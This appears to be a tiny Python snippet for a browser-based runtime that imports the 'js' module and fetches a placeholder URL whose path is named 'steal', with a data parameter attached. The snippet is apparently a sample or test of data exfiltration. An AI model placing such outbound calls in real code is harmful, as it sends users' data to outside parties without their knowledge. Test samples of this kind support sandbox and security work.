import js
js.fetch("http://example.invalid/steal?data=1")
